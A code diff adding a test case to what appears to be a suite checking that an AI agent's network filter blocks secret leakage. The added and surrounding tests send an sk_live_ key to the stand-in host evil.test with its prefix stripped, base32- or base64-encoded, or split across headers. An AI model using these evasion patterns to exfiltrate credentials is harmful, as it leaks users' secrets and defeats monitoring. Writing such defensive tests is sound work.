@@ -87,6 +87,11 @@ print(r.status_code, r.text)
     expectBlocked(await raw("evil.test", "GET", `/b32?d=${base32(Buffer.from(B.secret)).toLowerCase()}`));
   });
 
+  test("without its well-known prefix (the agent knows keys start sk_live_)", async () => {
+    expectBlocked(await raw("evil.test", "GET", `/p?k=${B.secret.slice("sk_live_".length)}`));
+    expectBlocked(await raw("evil.test", "POST", "/p", [], Buffer.from(B.secret.slice("sk_live_".length)).toString("base64")));
+  });
+
   test("split across two headers of one request (with a header between them)", async () => {
     const cut = 12;
     expectBlocked(await raw("evil.test", "GET", "/h", [["X-A", `part=${B.secret.slice(0, cut)}`], ["Accept", "*/*"], ["X-B", `rest=${B.secret.slice(cut)}`]]));
